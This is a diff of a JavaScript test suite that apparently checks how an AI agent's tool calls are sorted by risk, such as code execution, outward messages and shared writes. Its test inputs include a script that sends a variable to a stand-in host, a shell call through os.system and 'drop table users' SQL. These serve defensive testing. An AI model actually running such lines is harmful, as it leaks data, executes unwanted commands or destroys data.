@@ -48,9 +48,7 @@ describe('code that is evaluated, or put into a cell that runs', () => {
     expect(act('page_script', { script: 'new Image().src = "//host.example/p?" + x' }).sink).toBe('execution')
   })
 
-  it('a look at a page and a cell that is only written are not', () => {
-    const look = { method: 'Runtime.evaluate', params: { expression: 'document.querySelector("h1").textContent' } }
-    expect(act('cdp', look).sink).toBe('shared')
+  it('a cell that is only written is not', () => {
     expect(act('notebook_edit_cell', { path: 'a.ipynb', src: 'import os; os.system("id")' }).sink).toBe('own')
     expect(act('notebook_cell', { path: 'a.ipynb', src: 'x = 1', run: false }).sink).not.toBe('execution')
   })
@@ -87,7 +85,6 @@ describe('SQL, whatever the argument is called', () => {
     expect(act('create_issue', { title: 'Drop table users', body: 'drop table users' }).sink).toBe('shared')
     expect(act('search_docs', { query: 'drop table users' }).sink).toBe('look')
     expect(act('send_message', { to: '#dev', text: 'update t set a = 1 where b = 2' }).sink).toBe('outward')
-    expect(act('cart', { action: 'delete from cart the item' }).sink).toBe('shared')
     expect(act('todo_add', { task: 'update the profile set to be public' }).sink).toBe('own')
   })
 
